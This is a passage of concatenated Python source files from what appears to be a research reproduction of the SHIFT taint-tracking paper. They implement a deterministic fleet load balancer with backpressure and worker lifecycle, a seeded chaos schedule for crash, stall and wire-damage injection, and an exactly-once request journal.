    by fewest queued bytes, then worker order).
``hash``
    Consistent hashing: workers are placed on a ring at positions
    derived from ``sha256(seed, worker, replica)``; a request maps to
    the first worker clockwise of ``sha256(seed, payload)``.  Ejecting
    a worker only remaps the requests that hashed to it.

Health ejection: :meth:`eject` removes a worker from rotation (after it
alerted or faulted in a mode that could not recover) and hands back its
queued requests so the driver can re-route them to the survivors.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Union

from repro.fleet.wire import TaggedMessage

ROUTING_POLICIES = ("round_robin", "least_loaded", "hash")

#: Ring positions per worker for the consistent-hash policy.
HASH_REPLICAS = 64

Request = Union[bytes, TaggedMessage]


def _payload_of(request: Request) -> bytes:
    return request.payload if isinstance(request, TaggedMessage) else request


def _hash64(*parts: bytes) -> int:
    digest = hashlib.sha256(b"\x00".join(parts)).digest()
    return int.from_bytes(digest[:8], "big")


@dataclass
class WorkerSlot:
    """Frontend-side view of one worker: its queue and health."""

    worker_id: str
    capacity: Optional[int] = None
    queue: List[Request] = field(default_factory=list)
    healthy: bool = True
    #: Requests routed here (including ones later handed back on eject).
    assigned: int = 0
    ejected_reason: str = ""

    @property
    def queued_bytes(self) -> int:
        """Total payload bytes waiting in the queue."""
        return sum(len(_payload_of(r)) for r in self.queue)

    @property
    def has_room(self) -> bool:
        """True while the bounded queue can take another request."""
        return self.capacity is None or len(self.queue) < self.capacity


class FleetFrontend:
    """Deterministic request router over a set of worker slots."""

    def __init__(self, worker_ids: Sequence[str], *,
                 policy: str = "round_robin", seed: int = 0,
                 queue_capacity: Optional[int] = None) -> None:
        if policy not in ROUTING_POLICIES:
            raise ValueError(
                f"unknown routing policy {policy!r}; "
                f"choose from {ROUTING_POLICIES}")
        if not worker_ids:
            raise ValueError("a fleet needs at least one worker")
        if len(set(worker_ids)) != len(worker_ids):
            raise ValueError("worker ids must be unique")
        self.policy = policy
        self.seed = seed
        self.slots: Dict[str, WorkerSlot] = {
            wid: WorkerSlot(wid, capacity=queue_capacity)
            for wid in worker_ids
        }
        self.order: List[str] = list(worker_ids)
        #: Requests refused because every healthy queue was full.
        self.dropped = 0
        #: Requests that spilled past their first-choice worker.
        self.spilled = 0
        self._rr_next = 0
        self._ring = self._build_ring(worker_ids, seed)

    @staticmethod
    def _build_ring(worker_ids: Sequence[str], seed: int):
        ring = []
        for wid in worker_ids:
            for replica in range(HASH_REPLICAS):
                pos = _hash64(str(seed).encode(), wid.encode(),
                              str(replica).encode())
                ring.append((pos, wid))
        ring.sort()
        return ring

    # -- candidate ordering ---------------------------------------------

    def _healthy(self) -> List[str]:
        return [wid for wid in self.order if self.slots[wid].healthy]

    def _candidates(self, request: Request) -> List[str]:
        """Worker ids in routing-preference order for one request."""
        healthy = self._healthy()
        if not healthy:
            return []
        if self.policy == "round_robin":
            start = self._rr_next % len(healthy)
            self._rr_next += 1
            return healthy[start:] + healthy[:start]
        if self.policy == "least_loaded":
            return sorted(
                healthy,
                key=lambda wid: (len(self.slots[wid].queue),
                                 self.slots[wid].queued_bytes,
                                 self.order.index(wid)))
        # Consistent hash: walk the ring clockwise from the payload's
        # position, skipping unhealthy/duplicate workers.
        point = _hash64(str(self.seed).encode(), _payload_of(request))
        ordered: List[str] = []
        start = 0
        for i, (pos, _wid) in enumerate(self._ring):
            if pos >= point:
                start = i
                break
        for i in range(len(self._ring)):
            wid = self._ring[(start + i) % len(self._ring)][1]
            if wid not in ordered and self.slots[wid].healthy:
                ordered.append(wid)
                if len(ordered) == len(healthy):
                    break
        return ordered

    # -- routing ---------------------------------------------------------

    def submit(self, request: Request) -> Optional[str]:
        """Route one request; returns the worker id, or None if dropped.

        The first candidate with queue room takes it; candidates past
        the first count as spill (backpressure at the preferred worker).
        """
        for rank, wid in enumerate(self._candidates(request)):
            slot = self.slots[wid]
            if slot.has_room:
                slot.queue.append(request)
                slot.assigned += 1
                if rank > 0:
                    self.spilled += 1
                return wid
        self.dropped += 1
        return None

    def submit_all(self, requests: Sequence[Request]) -> Dict[str, int]:
        """Route a batch; returns per-worker routed counts."""
        for request in requests:
            self.submit(request)
        return {wid: len(slot.queue) for wid, slot in self.slots.items()}

    # -- health ----------------------------------------------------------

    def eject(self, worker_id: str, reason: str = "") -> List[Request]:
        """Remove a worker from rotation; hand back its queued requests."""
        slot = self.slots[worker_id]
        slot.healthy = False
        slot.ejected_reason = reason or "ejected"
        orphans = list(slot.queue)
        slot.queue.clear()
        return orphans

    @property
    def healthy_count(self) -> int:
        """Workers still in rotation."""
        return len(self._healthy())
