"""The fleet frontend: sharding requests across worker machines.

A :class:`FleetFrontend` is the load balancer in front of N worker
Machines.  It is host-side (the workers' guests never see it), fully
deterministic for a fixed seed, and enforces *backpressure*: each
worker has a bounded queue, a request that finds its chosen worker full
spills to the next routable worker in deterministic order, and a
request that finds every queue full is dropped and counted — never
buffered unboundedly.

Routing policies
----------------
``round_robin``
    Requests take workers in arrival order modulo fleet size.
``least_loaded``
    Each request goes to the worker with the shortest queue (ties break
    by fewest queued bytes, then worker order).
``hash``
    Consistent hashing: workers are placed on a ring at positions
    derived from ``sha256(seed, worker, replica)``; a request maps to
    the first worker clockwise of ``sha256(seed, key)`` where ``key``
    defaults to the payload bytes but can be an explicit *affinity key*
    (``submit(request, key=...)``) — the serving layer routes every
    request of one session by the same key, so keep-alive sessions
    stick to one worker.  Ejecting a worker only remaps the requests
    that hashed to it.

Worker lifecycle (used by the autoscaler in :mod:`repro.serve`):

* :meth:`add_worker` joins a new worker to the rotation mid-run (its
  ring replicas derive from the same seed, so placement is
  deterministic no matter when it joined).
* :meth:`drain` marks a worker unroutable while leaving its queue
  intact — it finishes what it has, takes nothing new.
* :meth:`retire` removes a drained worker whose queue has emptied.
* :meth:`eject` removes a worker that failed (alerted or faulted in a
  mode that could not recover) and hands back its queued requests so
  the driver can re-route them to the survivors.

:meth:`depths` exposes the per-worker queue snapshot (queued requests,
queued bytes, health/drain state) — the non-private view the
autoscaler and the observability layer key off.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Union

from repro.fleet.wire import TaggedMessage, WireFormatError
from repro.resil.transient import RetryPolicy

ROUTING_POLICIES = ("round_robin", "least_loaded", "hash")

#: Ring positions per worker for the consistent-hash policy.
HASH_REPLICAS = 64

#: Anything with a ``payload`` bytes attribute routes like a
#: TaggedMessage (the serve layer queues its richer request records
#: directly); plain bytes route as themselves.
Request = Union[bytes, TaggedMessage]


def _payload_of(request: Request) -> bytes:
    if isinstance(request, (bytes, bytearray)):
        return bytes(request)
    return request.payload


def _hash64(*parts: bytes) -> int:
    digest = hashlib.sha256(b"\x00".join(parts)).digest()
    return int.from_bytes(digest[:8], "big")


@dataclass
class WorkerSlot:
    """Frontend-side view of one worker: its queue and health."""

    worker_id: str
    capacity: Optional[int] = None
    queue: List[Request] = field(default_factory=list)
    healthy: bool = True
    #: Draining workers serve out their queue but take nothing new.
    draining: bool = False
    #: Requests routed here (including ones later handed back on eject).
    assigned: int = 0
    ejected_reason: str = ""

    @property
    def queued_bytes(self) -> int:
        """Total payload bytes waiting in the queue."""
        return sum(len(_payload_of(r)) for r in self.queue)

    @property
    def has_room(self) -> bool:
        """True while the bounded queue can take another request."""
        return self.capacity is None or len(self.queue) < self.capacity

    @property
    def routable(self) -> bool:
        """True while new requests may be routed to this worker."""
        return self.healthy and not self.draining


class FleetFrontend:
    """Deterministic request router over a set of worker slots."""

    def __init__(self, worker_ids: Sequence[str], *,
                 policy: str = "round_robin", seed: int = 0,
                 queue_capacity: Optional[int] = None,
                 shed_limit: Optional[int] = None) -> None:
        if policy not in ROUTING_POLICIES:
            raise ValueError(
                f"unknown routing policy {policy!r}; "
                f"choose from {ROUTING_POLICIES}")
        if not worker_ids:
            raise ValueError("a fleet needs at least one worker")
        if len(set(worker_ids)) != len(worker_ids):
            raise ValueError("worker ids must be unique")
        if shed_limit is not None and shed_limit < 1:
            raise ValueError("shed_limit must be positive when set")
        self.policy = policy
        self.seed = seed
        self.queue_capacity = queue_capacity
        #: Admission-control depth bound: submissions arriving while
        #: this many requests are already queued fleet-wide are refused
        #: outright with an explicit 503-style rejection (graceful
        #: degradation under sustained failure or recovery backlog).
        self.shed_limit = shed_limit
        self.slots: Dict[str, WorkerSlot] = {
            wid: WorkerSlot(wid, capacity=queue_capacity)
            for wid in worker_ids
        }
        self.order: List[str] = list(worker_ids)
        #: Requests refused because every routable queue was full.
        self.dropped = 0
        #: Requests that spilled past their first-choice worker.
        self.spilled = 0
        #: Requests refused by admission control (503-style shedding).
        self.rejected = 0
        #: Corrupt/truncated frames refused by :meth:`receive_frame`.
        self.frame_rejects = 0
        #: Frames that never arrived (dropped on the wire).
        self.frames_lost = 0
        #: Retransmission requests issued after a bad/lost frame.
        self.retransmits = 0
        self._rr_next = 0
        self._ring = self._build_ring(worker_ids, seed)

    @staticmethod
    def _build_ring(worker_ids: Sequence[str], seed: int):
        ring = []
        for wid in worker_ids:
            for replica in range(HASH_REPLICAS):
                pos = _hash64(str(seed).encode(), wid.encode(),
                              str(replica).encode())
                ring.append((pos, wid))
        ring.sort()
        return ring

    # -- candidate ordering ---------------------------------------------

    def _healthy(self) -> List[str]:
        return [wid for wid in self.order if self.slots[wid].healthy]

    def _routable(self) -> List[str]:
        return [wid for wid in self.order if self.slots[wid].routable]

    def _candidates(self, request: Request,
                    key: Optional[bytes] = None) -> List[str]:
        """Worker ids in routing-preference order for one request."""
        routable = self._routable()
        if not routable:
            return []
        if self.policy == "round_robin":
            start = self._rr_next % len(routable)
            self._rr_next += 1
            return routable[start:] + routable[:start]
        if self.policy == "least_loaded":
            return sorted(
                routable,
                key=lambda wid: (len(self.slots[wid].queue),
                                 self.slots[wid].queued_bytes,
                                 self.order.index(wid)))
        # Consistent hash: walk the ring clockwise from the key's
        # position, skipping unroutable/duplicate workers.
        point = _hash64(str(self.seed).encode(),
                        key if key is not None else _payload_of(request))
        ordered: List[str] = []
        start = 0
        for i, (pos, _wid) in enumerate(self._ring):
            if pos >= point:
                start = i
                break
        for i in range(len(self._ring)):
            wid = self._ring[(start + i) % len(self._ring)][1]
            if wid not in ordered and self.slots[wid].routable:
                ordered.append(wid)
                if len(ordered) == len(routable):
                    break
        return ordered

    # -- routing ---------------------------------------------------------

    def submit(self, request: Request,
               key: Optional[bytes] = None) -> Optional[str]:
        """Route one request; returns the worker id, or None if dropped.

        The first candidate with queue room takes it; candidates past
        the first count as spill (backpressure at the preferred worker).
        ``key`` overrides the bytes hashed by the ``hash`` policy — the
        session-affinity key of the serving layer.

        Admission control runs first: when :attr:`shed_limit` is set
        and that many requests are already queued fleet-wide, the
        request is *rejected* (counted in :attr:`rejected`) without
        touching any queue — the 503-style explicit refusal that keeps
        a degraded fleet inside its depth bound instead of silently
        absorbing a backlog it cannot serve.
        """
        if (self.shed_limit is not None
                and self.total_queued >= self.shed_limit):
            self.rejected += 1
            return None
        for rank, wid in enumerate(self._candidates(request, key)):
            slot = self.slots[wid]
            if slot.has_room:
                slot.queue.append(request)
                slot.assigned += 1
                if rank > 0:
                    self.spilled += 1
                return wid
        self.dropped += 1
        return None

    def submit_all(self, requests: Sequence[Request]) -> Dict[str, int]:
        """Route a batch; returns per-worker routed counts."""
        for request in requests:
            self.submit(request)
        return {wid: len(slot.queue) for wid, slot in self.slots.items()}

    # -- wire ingress ----------------------------------------------------

    def receive_frame(self, channel: Callable[[int], Optional[bytes]],
                      *, retry: Optional[RetryPolicy] = None):
        """Receive one wire frame, retransmitting on loss or corruption.

        ``channel(attempt)`` models one delivery attempt: it returns the
        frame bytes as they arrived (possibly corrupted in flight) or
        ``None`` when the frame was dropped on the wire.  A frame that
        fails :meth:`TaggedMessage.from_bytes` (bad magic, short frame,
        CRC mismatch) counts in :attr:`frame_rejects`; a dropped frame
        counts in :attr:`frames_lost`; each follow-up attempt counts in
        :attr:`retransmits` and pays ``retry.backoff(attempt)`` cycles.

        Returns ``(message, backoff_cycles)`` on success.  Raises
        :class:`WireFormatError` only once the retry budget is
        exhausted — the caller may then eject the sender, but a
        transient bit-flip no longer kills a healthy worker.
        """
        policy = retry if retry is not None else RetryPolicy()
        backoff_cycles = 0.0
        last_error: Optional[WireFormatError] = None
        for attempt in range(policy.limit + 1):
            if attempt > 0:
                self.retransmits += 1
                backoff_cycles += policy.backoff(attempt - 1)
            raw = channel(attempt)
            if raw is None:
                self.frames_lost += 1
                last_error = WireFormatError("frame lost on the wire")
                continue
            try:
                message = TaggedMessage.from_bytes(raw)
            except WireFormatError as exc:
                self.frame_rejects += 1
                last_error = exc
                continue
            return message, backoff_cycles
        raise WireFormatError(
            f"frame unrecoverable after {policy.limit} retransmit(s): "
            f"{last_error}")

    # -- worker lifecycle ------------------------------------------------

    def add_worker(self, worker_id: str,
                   capacity: Optional[int] = None) -> WorkerSlot:
        """Join a new worker to the rotation (autoscaler scale-up).

        The worker's ring replicas derive from the frontend seed, so a
        worker added mid-run lands exactly where it would have at
        construction time — consistent-hash placement stays stable.
        ``capacity`` defaults to the frontend-wide queue bound.
        """
        if worker_id in self.slots:
            raise ValueError(f"worker {worker_id!r} already exists")
        slot = WorkerSlot(
            worker_id,
            capacity=self.queue_capacity if capacity is None else capacity)
        self.slots[worker_id] = slot
        self.order.append(worker_id)
        for replica in range(HASH_REPLICAS):
            pos = _hash64(str(self.seed).encode(), worker_id.encode(),
                          str(replica).encode())
            self._ring.append((pos, worker_id))
        self._ring.sort()
        return slot

    def drain(self, worker_id: str) -> None:
        """Stop routing to a worker; it serves out its queue (scale-down)."""
        self.slots[worker_id].draining = True

    def retire(self, worker_id: str) -> None:
        """Remove a drained worker whose queue has emptied."""
        slot = self.slots[worker_id]
        if slot.queue:
            raise ValueError(
                f"worker {worker_id!r} still has {len(slot.queue)} "
                "queued request(s); drain must empty before retire")
        slot.healthy = False
        slot.draining = False
        slot.ejected_reason = "retired"

    def eject(self, worker_id: str, reason: str = "") -> List[Request]:
        """Remove a worker from rotation; hand back its queued requests."""
        slot = self.slots[worker_id]
        slot.healthy = False
        slot.draining = False
        slot.ejected_reason = reason or "ejected"
        orphans = list(slot.queue)
        slot.queue.clear()
        return orphans

    # -- observation -----------------------------------------------------

    def depths(self) -> Dict[str, Dict[str, object]]:
        """Per-worker queue-depth snapshot (the autoscaler's input).

        Every worker ever known appears, including drained and ejected
        ones, each with its queued request/byte counts and lifecycle
        flags — the public view the autoscaler and the obs layer use
        instead of reaching into :attr:`slots`.
        """
        return {
            wid: {
                "queued": len(slot.queue),
                "queued_bytes": slot.queued_bytes,
                "healthy": slot.healthy,
                "draining": slot.draining,
                "routable": slot.routable,
            }
            for wid, slot in self.slots.items()
        }

    @property
    def total_queued(self) -> int:
        """Requests waiting across every healthy worker queue."""
        return sum(len(slot.queue) for slot in self.slots.values()
                   if slot.healthy)

    @property
    def healthy_count(self) -> int:
        """Workers still in rotation (draining workers included)."""
        return len(self._healthy())

    @property
    def routable_count(self) -> int:
        """Workers accepting new requests (healthy and not draining)."""
        return len(self._routable())
