"""repro.fleet: sharded multi-machine serving with taint on the wire.

The paper protects one machine; production serving is a *fleet*.  This
package scales the simulated SHIFT machine out: a deterministic load
balancer shards requests across N worker Machines
(:mod:`repro.fleet.frontend`), a driver executes the workers in-process
or across OS processes (:mod:`repro.fleet.driver`), and the
:class:`TaggedMessage` wire format (:mod:`repro.fleet.wire`) carries
payload bytes *and their taint tags* between machines so that policies
on an interior tier still see taint that entered the system tiers away
(:mod:`repro.fleet.tiers`).  Fleet-level metrics merging and incident
reporting live in :mod:`repro.fleet.observe`.
"""

from repro.fleet.driver import (
    FleetConfig,
    FleetDriver,
    FleetResult,
    migrate_worker,
    run_worker,
)
from repro.fleet.frontend import ROUTING_POLICIES, FleetFrontend, WorkerSlot
from repro.fleet.supervised import SupervisedFleet, SupervisionConfig
from repro.fleet.observe import (
    frontend_metrics,
    incident_report,
    merge_metric_dicts,
    merge_worker_metrics,
    render_incidents,
)
from repro.fleet.tiers import run_two_tier, two_tier_experiment
from repro.fleet.wire import TaggedMessage, WireFormatError

__all__ = [
    "FleetConfig",
    "FleetDriver",
    "FleetFrontend",
    "FleetResult",
    "ROUTING_POLICIES",
    "SupervisedFleet",
    "SupervisionConfig",
    "TaggedMessage",
    "WireFormatError",
    "WorkerSlot",
    "frontend_metrics",
    "incident_report",
    "merge_metric_dicts",
    "merge_worker_metrics",
    "migrate_worker",
    "render_incidents",
    "run_two_tier",
    "run_worker",
    "two_tier_experiment",
]
