"""SHIFT reproduction (ISCA 2008).

A full-system reproduction of "From Speculation to Security: Practical
and Efficient Information Flow Tracking Using Speculative Hardware"
(Chen et al.), built on a simulated Itanium-like substrate:

* :mod:`repro.isa` / :mod:`repro.cpu` / :mod:`repro.mem` -- the
  speculative-hardware substrate (NaT bits, deferred exceptions, caches)
* :mod:`repro.compiler` -- a MiniC compiler with the SHIFT
  instrumentation pass
* :mod:`repro.taint` -- taint bitmap and the security-policy engine
* :mod:`repro.runtime` -- guest OS, devices, instrumentable libc
* :mod:`repro.core` -- the high-level SHIFT API
* :mod:`repro.baselines` -- LIFT-style and interpreter-style comparators
* :mod:`repro.apps` -- SPEC-like kernels, the web server, vulnerable apps
* :mod:`repro.harness` -- regenerates every table/figure of the paper
"""

__version__ = "1.0.0"
