"""repro.chaos: seeded failure injection and the machinery to survive it.

The serving stack through PR 7 assumed workers fail *politely*: an
alert is caught, a fault rolls back, a drained worker migrates its
queue before retiring.  This package drops that assumption.  A
:class:`~repro.chaos.schedule.ChaosSchedule` injects fail-stop crashes
(real ``SIGKILL`` in the multiprocessing arm, simulated fail-stop
events in the serving loop), worker stalls long enough to be declared
dead, and wire-frame corruption/drops — all derived from one seed, so
every campaign trial replays bit-identically.

Surviving it takes three cooperating pieces:

* :class:`~repro.chaos.journal.RequestJournal` — the frontend's
  exactly-once memory: first completion wins, replays are deduped,
  zombies are suppressed, and ``open_count == 0`` at end of run is the
  zero-lost-requests invariant.
* :class:`~repro.chaos.replica.ReplicaStore` — periodic replication of
  each worker's delta-checkpoint chain to the frontend as ``SHFTMIG1``
  blobs with a request-index watermark, so a replacement rehydrates
  state and quarantine evidence instead of starting cold.
* graceful degradation in :class:`~repro.fleet.frontend.FleetFrontend`
  — admission control sheds load above a depth bound with explicit
  503-style rejections, and corrupt frames are retransmitted with
  bounded backoff before being ejected.

``python -m repro.harness.chaosbench`` runs the seeded crash campaigns
and emits ``BENCH_chaos.json``.
"""

from repro.chaos.journal import RequestJournal
from repro.chaos.replica import (
    RecoveryPolicy,
    Replica,
    ReplicaStore,
    recover_from_replica,
)
from repro.chaos.schedule import ChaosEvent, ChaosSchedule, WorkerChaos

__all__ = [
    "ChaosEvent",
    "ChaosSchedule",
    "RecoveryPolicy",
    "Replica",
    "ReplicaStore",
    "RequestJournal",
    "WorkerChaos",
    "recover_from_replica",
]
