"""The frontend's request-id journal: exactly-once under failure.

Crash recovery replays work, and replay is where at-least-once systems
quietly become at-most-twice systems.  The journal is the frontend's
authoritative memory of every admitted request id: which worker is
currently responsible for it, and whether it has completed.  Every
completion — from the original owner, from a replacement that replayed
it, or from a stalled zombie that was declared dead and woke up anyway
— goes through :meth:`RequestJournal.complete`, which accepts exactly
the first and suppresses (and counts) every later one.  A crashed
worker's open set (:meth:`open_for`) is precisely what recovery must
replay; when the run ends, :attr:`open_count` == 0 is the no-lost-work
invariant and :attr:`duplicates` > 0 is the dedup machinery visibly
earning its keep.

The journal is plain deterministic bookkeeping — no clock, no
randomness — so it is shared verbatim by the simulated serving loop,
the supervised multiprocessing fleet, and the wall-clock arm.
"""

from __future__ import annotations

from typing import Dict, List, Optional

__all__ = ["RequestJournal"]


class RequestJournal:
    """Exactly-once accounting over admitted request ids."""

    def __init__(self) -> None:
        #: request id -> worker currently responsible (None = unassigned).
        self._owner: Dict[int, Optional[str]] = {}
        #: request id -> outcome of its first (authoritative) completion.
        self._outcome: Dict[int, str] = {}
        #: Later completions suppressed per request id.
        self._extra: Dict[int, int] = {}
        #: Requests re-assigned by crash recovery.
        self.replays = 0

    # -- admission / assignment ------------------------------------------

    def admit(self, index: int, worker: Optional[str] = None) -> bool:
        """Record an admitted request; False if the id was seen before."""
        if index in self._owner:
            return False
        self._owner[index] = worker
        return True

    def assign(self, index: int, worker: str) -> None:
        """Record which worker is currently responsible for a request."""
        if index not in self._owner:
            raise KeyError(f"request {index} was never admitted")
        self._owner[index] = worker

    def reassign(self, indices: List[int], worker: str) -> List[int]:
        """Move still-open requests to a replacement worker (replay).

        Already-completed ids are skipped — their work is done, handing
        them to the replacement would manufacture duplicates.  Returns
        the ids actually moved, in input order.
        """
        moved: List[int] = []
        for index in indices:
            if index in self._outcome or index not in self._owner:
                continue
            self._owner[index] = worker
            self.replays += 1
            moved.append(index)
        return moved

    # -- completion -------------------------------------------------------

    def complete(self, index: int, outcome: str = "served") -> bool:
        """Journal one completion; True when it is the authoritative one.

        The first completion of an admitted id wins; every later one —
        a zombie finishing after its replacement, a replayed request
        whose original ack was only delayed — returns False and is
        counted in :attr:`duplicates`.  Completing an id that was never
        admitted raises: that is a bookkeeping bug, not chaos.
        """
        if index not in self._owner:
            raise KeyError(f"request {index} was never admitted")
        if index in self._outcome:
            self._extra[index] = self._extra.get(index, 0) + 1
            return False
        self._outcome[index] = outcome
        return True

    # -- queries ----------------------------------------------------------

    def is_completed(self, index: int) -> bool:
        return index in self._outcome

    def outcome(self, index: int) -> Optional[str]:
        """The authoritative outcome, or None while still open."""
        return self._outcome.get(index)

    def owner(self, index: int) -> Optional[str]:
        return self._owner.get(index)

    def open_for(self, worker: str) -> List[int]:
        """Admitted, assigned to ``worker``, not yet completed — the
        exact set crash recovery must replay, in admission order."""
        return [index for index, owner in self._owner.items()
                if owner == worker and index not in self._outcome]

    def open_ids(self) -> List[int]:
        """Every admitted id still awaiting its first completion."""
        return [index for index in self._owner
                if index not in self._outcome]

    @property
    def admitted(self) -> int:
        return len(self._owner)

    @property
    def completed(self) -> int:
        return len(self._outcome)

    @property
    def open_count(self) -> int:
        return len(self._owner) - len(self._outcome)

    @property
    def duplicates(self) -> int:
        """Completions suppressed because the id was already done."""
        return sum(self._extra.values())

    @property
    def exactly_once(self) -> bool:
        """True when every admitted request completed exactly once.

        Suppressed duplicates do not violate the invariant — they are
        the mechanism enforcing it; what would violate it is an open
        request at end of run (lost) or a second outcome overwriting
        the first (which :meth:`complete` makes unrepresentable).
        """
        return self.open_count == 0

    def to_dict(self) -> Dict:
        """JSON-ready tallies for reports."""
        return {
            "admitted": self.admitted,
            "completed": self.completed,
            "open": self.open_count,
            "duplicates_suppressed": self.duplicates,
            "replays": self.replays,
            "exactly_once": self.exactly_once,
        }
