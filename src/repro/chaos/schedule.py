"""Seeded, wall-clock-free chaos: fail-stop crashes, stalls, wire damage.

A :class:`ChaosSchedule` is the single source of adversity for one
campaign trial.  It carries three kinds of injections, all derived from
one seed so every trial replays bit-identically:

* **Fail-stop crashes** (:class:`ChaosEvent` kind ``"crash"``): the
  targeted worker dies instantly, taking its in-flight request and its
  local queue with it.  In the simulated serving loop this is a
  deterministic event at a simulated cycle stamp; in the supervised
  multiprocessing arm the directive becomes a real ``SIGKILL`` the
  worker sends itself at a request boundary — no cleanup, no goodbye
  message, exactly what a kernel OOM-kill or a kicked power cord looks
  like to the rest of the fleet.
* **Stalls** (kind ``"stall"``): the worker freezes for ``duration``
  cycles (or wall seconds in the multiprocessing arm) without dying.
  A stall longer than the failure detector's patience produces the
  nastiest distributed-systems case: a *zombie* that is declared dead,
  replaced, and then wakes up and finishes its request anyway — the
  request-id journal must suppress the duplicate.
* **Wire damage**: per-request transmission attempts are corrupted
  (bit flips the CRC catches) or dropped entirely, decided statelessly
  from ``sha256(seed, request, attempt)`` so the decision for request
  *i* does not depend on how many other requests were examined first.

Times are simulated cycles, the same unit as the serving loop; the
schedule never reads a wall clock.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

__all__ = ["ChaosEvent", "ChaosSchedule", "WorkerChaos"]

#: Event kinds a schedule may carry.
EVENT_KINDS = ("crash", "stall")


@dataclass(frozen=True)
class ChaosEvent:
    """One scheduled fault against one worker."""

    time: float  # simulated cycles into the run
    kind: str  # 'crash' | 'stall'
    worker: str  # target worker id (w0, w1, ...)
    duration: float = 0.0  # stall length in cycles (stalls only)

    def __post_init__(self) -> None:
        if self.kind not in EVENT_KINDS:
            raise ValueError(f"unknown chaos kind {self.kind!r}; "
                             f"choose from {EVENT_KINDS}")
        if self.kind == "stall" and self.duration <= 0:
            raise ValueError("a stall needs a positive duration")


@dataclass(frozen=True)
class WorkerChaos:
    """Per-process directives for the multiprocessing arm.

    Counts are 1-based serve positions within the worker's own stream:
    ``crash_after=3`` means the worker SIGKILLs itself the moment it
    picks up its 3rd request, before any of that request's work runs
    (a fail-stop at a request boundary, deterministic no matter how the
    host schedules the processes).
    """

    crash_after: Optional[int] = None  # SIGKILL before serving the Nth
    stall_after: Optional[int] = None  # sleep before serving the Nth
    stall_seconds: float = 0.0


def _u01(seed: int, *parts: object) -> float:
    """Stateless uniform sample in [0, 1) keyed by (seed, parts)."""
    key = b"\x00".join([str(seed).encode()]
                       + [str(p).encode() for p in parts])
    digest = hashlib.sha256(key).digest()
    return int.from_bytes(digest[:8], "big") / float(1 << 64)


class ChaosSchedule:
    """Deterministic adversity for one campaign trial.

    ``events`` are the fail-stop/stall injections; ``corrupt_rate`` and
    ``drop_rate`` are per-transmission-attempt probabilities of a
    damaged or lost frame (decided statelessly per (request, attempt)).
    ``directives`` carries the multiprocessing arm's per-worker
    :class:`WorkerChaos` instructions.
    """

    def __init__(self, events: Sequence[ChaosEvent] = (), *,
                 seed: int = 0, corrupt_rate: float = 0.0,
                 drop_rate: float = 0.0,
                 directives: Optional[Dict[str, WorkerChaos]] = None) -> None:
        if not 0.0 <= corrupt_rate <= 1.0 or not 0.0 <= drop_rate <= 1.0:
            raise ValueError("corruption/drop rates must be in [0, 1]")
        if corrupt_rate + drop_rate > 1.0:
            raise ValueError("corrupt_rate + drop_rate must not exceed 1")
        self.events: Tuple[ChaosEvent, ...] = tuple(
            sorted(events, key=lambda e: (e.time, e.worker)))
        self.seed = seed
        self.corrupt_rate = corrupt_rate
        self.drop_rate = drop_rate
        self.directives: Dict[str, WorkerChaos] = dict(directives or {})

    # -- construction ----------------------------------------------------

    @classmethod
    def campaign(cls, seed: int, *, workers: int, duration: float,
                 crashes: int = 1, stalls: int = 0,
                 stall_cycles: float = 0.0,
                 corrupt_rate: float = 0.0,
                 drop_rate: float = 0.0) -> "ChaosSchedule":
        """Generate a seeded schedule over the initial worker set.

        Crash/stall times land strictly inside ``(0.1, 0.9) * duration``
        so an injection never races the very first arrival or fires
        after the workload is already drained; targets walk the initial
        workers round-robin so multi-crash campaigns spread the damage.
        """
        if workers <= 0:
            raise ValueError("a campaign needs at least one worker")
        events: List[ChaosEvent] = []
        total = crashes + stalls
        for i in range(total):
            frac = 0.1 + 0.8 * _u01(seed, "when", i)
            wid = f"w{i % workers}"
            if i < crashes:
                events.append(ChaosEvent(time=frac * duration,
                                         kind="crash", worker=wid))
            else:
                events.append(ChaosEvent(time=frac * duration,
                                         kind="stall", worker=wid,
                                         duration=stall_cycles))
        return cls(events, seed=seed, corrupt_rate=corrupt_rate,
                   drop_rate=drop_rate)

    # -- wire damage -----------------------------------------------------

    def transmit(self, frame: bytes, request: int,
                 attempt: int) -> Optional[bytes]:
        """One transmission attempt of a frame over the chaotic wire.

        Returns the frame unchanged (clean delivery), a deterministically
        corrupted copy (one bit flipped — the CRC will catch it), or
        ``None`` when the frame was dropped outright.  The decision is a
        pure function of ``(seed, request, attempt)``.
        """
        if not frame:
            return frame
        u = _u01(self.seed, "wire", request, attempt)
        if u < self.drop_rate:
            return None
        if u < self.drop_rate + self.corrupt_rate:
            damaged = bytearray(frame)
            pos = int(_u01(self.seed, "pos", request, attempt)
                      * len(damaged))
            bit = int(_u01(self.seed, "bit", request, attempt) * 8)
            damaged[min(pos, len(damaged) - 1)] ^= (1 << bit)
            return bytes(damaged)
        return frame

    def wire_attempts(self, request: int, limit: int) -> int:
        """Failed attempts before a clean delivery (capped at limit+1).

        Convenience for reports: how many retransmissions request
        ``request`` will need under this schedule.
        """
        failed = 0
        while failed <= limit:
            u = _u01(self.seed, "wire", request, failed)
            if u >= self.drop_rate + self.corrupt_rate:
                return failed
            failed += 1
        return failed

    # -- queries ---------------------------------------------------------

    @property
    def crashes(self) -> Tuple[ChaosEvent, ...]:
        return tuple(e for e in self.events if e.kind == "crash")

    @property
    def stalls(self) -> Tuple[ChaosEvent, ...]:
        return tuple(e for e in self.events if e.kind == "stall")

    @property
    def wire_active(self) -> bool:
        """True when the schedule damages frames at all."""
        return (self.corrupt_rate + self.drop_rate) > 0.0

    def describe(self) -> Dict:
        """JSON-ready summary for campaign reports."""
        return {
            "seed": self.seed,
            "crashes": [{"time": round(e.time, 1), "worker": e.worker}
                        for e in self.crashes],
            "stalls": [{"time": round(e.time, 1), "worker": e.worker,
                        "duration": round(e.duration, 1)}
                       for e in self.stalls],
            "corrupt_rate": self.corrupt_rate,
            "drop_rate": self.drop_rate,
            "directives": {
                wid: {"crash_after": d.crash_after,
                      "stall_after": d.stall_after,
                      "stall_seconds": d.stall_seconds}
                for wid, d in sorted(self.directives.items())
            },
        }
