"""Checkpoint replication: worker delta chains parked at the frontend.

PR 7's live migration packs a worker's delta-checkpoint chain into a
self-describing ``SHFTMIG1`` blob; chaos tolerance turns that one-shot
transport into a *standing replication stream*.  Every
``replicate_every`` completed requests, a worker packs its chain —
